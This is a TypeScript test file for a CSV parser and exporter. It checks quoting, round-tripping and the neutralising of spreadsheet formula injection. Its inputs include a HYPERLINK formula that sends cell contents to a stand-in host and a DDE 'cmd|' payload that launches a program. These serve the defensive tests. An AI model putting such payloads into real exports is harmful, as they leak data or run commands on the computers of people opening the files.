import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvExportField, csvExportLine, csvField, csvLine, splitCsvLine } from './csv.ts';

test('splitCsvLine reads plain and quoted fields', () => {
  assert.deepEqual(splitCsvLine('a,b,,c'), ['a', 'b', '', 'c']);
  assert.deepEqual(splitCsvLine('a,"b, c",d'), ['a', 'b, c', 'd']);
  assert.deepEqual(splitCsvLine('"say ""hi""",x'), ['say "hi"', 'x']);
  assert.deepEqual(splitCsvLine('"",""'), ['', '']);
  assert.deepEqual(splitCsvLine('x,"y"'), ['x', 'y']);
});

test('splitCsvLine refuses malformed quotes', () => {
  assert.equal(splitCsvLine('"unterminated,x'), undefined);
  assert.equal(splitCsvLine('a"b,c'), undefined);
  assert.equal(splitCsvLine('"a"b,c'), undefined);
});

test('csvLine quotes only when needed and round-trips', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('a"b'), '"a""b"');
  const fields = ['1', 'with, comma', 'with "quote"', '', 'ñandú'];
  assert.deepEqual(splitCsvLine(csvLine(fields)), fields);
});

test('csvExportField neutralises a cell a spreadsheet would read as a formula', () => {
  // OWASP's CSV injection rule: a quote before the cell, and the cell quoted.
  assert.equal(
    csvExportField('=HYPERLINK("http://x.test/?a="&A1,"Ver")'),
    `"'=HYPERLINK(""http://x.test/?a=""&A1,""Ver"")"`,
  );
  assert.equal(csvExportField('+1+1'), `"'+1+1"`);
  assert.equal(csvExportField('@SUM(A1)'), `"'@SUM(A1)"`);
  assert.equal(csvExportField("-1+cmd|' /C calc'!A0"), `"'-1+cmd|' /C calc'!A0"`);
  assert.equal(csvExportField('\t=1+1'), `"'\t=1+1"`);
  assert.equal(csvExportField('\r=1+1'), `"'\r=1+1"`);
  assert.equal(csvExportField('\0=1+1'), `"'\0=1+1"`);
  // Full-width forms, which some spreadsheets (Japanese and Chinese input) read as = + - @.
  for (const c of ['＝', '＋', '－', '＠']) assert.equal(csvExportField(`${c}1+1`), `"'${c}1+1"`);
  // Numbers are data, not formulas: a negative amount stays a number.
  assert.equal(csvExportField('-12.50'), '-12.50');
  assert.equal(csvExportField('-7'), '-7');
  assert.equal(csvExportField('1000.00'), '1000.00');
  // Everything else is written as csvField writes it.
  assert.equal(csvExportField('Juana Mamani'), 'Juana Mamani');
  assert.equal(csvExportField('a=b'), 'a=b');
  assert.equal(csvExportField('<5'), '<5');
  assert.equal(csvExportField(''), '');
  assert.equal(csvExportField('a,b'), '"a,b"');
});

test('csvExportLine neutralises every cell and stays readable as CSV', () => {
  const line = csvExportLine(['3', 'bad name', '=HYPERLINK("http://x.test")', '-5']);
  assert.equal(line, `3,bad name,"'=HYPERLINK(""http://x.test"")",-5`);
  assert.deepEqual(splitCsvLine(line), ['3', 'bad name', `'=HYPERLINK("http://x.test")`, '-5']);
});
